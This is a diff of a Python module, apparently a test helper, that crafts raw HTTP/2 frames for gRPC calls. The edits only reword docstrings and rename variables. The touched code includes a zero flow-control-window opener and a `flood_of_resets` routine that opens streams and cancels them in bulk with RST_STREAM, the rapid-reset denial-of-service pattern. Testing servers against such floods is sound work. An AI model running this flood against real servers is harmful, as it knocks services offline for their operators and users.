@@ -11,7 +11,7 @@ SETTINGS = 4
 PING = 6
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
-"""What a client sends first."""
+"""The first bytes that a client sends."""
 
 ACK = 1
 
@@ -39,11 +39,11 @@ def opening(path: str, stream: int) -> bytes:
         b"content-type": b"application/grpc",
         b"te": b"trailers",
     }
-    return frame(HEADERS, END_HEADERS, stream, b"".join(_header(*each) for each in headers.items()))
+    return frame(HEADERS, END_HEADERS, stream, b"".join(_header(*header) for header in headers.items()))
 
 
 def without_room(path: str, calls: int) -> bytes:
-    """What to send at once over a new connection: some calls of a method, and that there is no room for a byte of their answers."""
+    """Return what to send at once over a new connection: some calls of a method, and that there is no room for a byte of their answers."""
     no_window = INITIAL_WINDOW_SIZE.to_bytes(2, "big") + (0).to_bytes(4, "big")
     opened = [opening(path, 1 + 2 * number) for number in range(calls)]
     return b"".join([PREFACE, frame(SETTINGS, 0, 0, no_window), *opened])
@@ -60,8 +60,8 @@ def flood_of_resets(port: int, path: str, calls: int, timeout: float) -> None:
             for first in range(0, calls, 1000):
                 connection.sendall(
                     b"".join(
-                        opening(path, each) + frame(RST_STREAM, 0, each, cancel)
-                        for each in streams[first : first + 1000]
+                        opening(path, stream) + frame(RST_STREAM, 0, stream, cancel)
+                        for stream in streams[first : first + 1000]
                     )
                 )
             connection.sendall(frame(PING, 0, 0, mark))
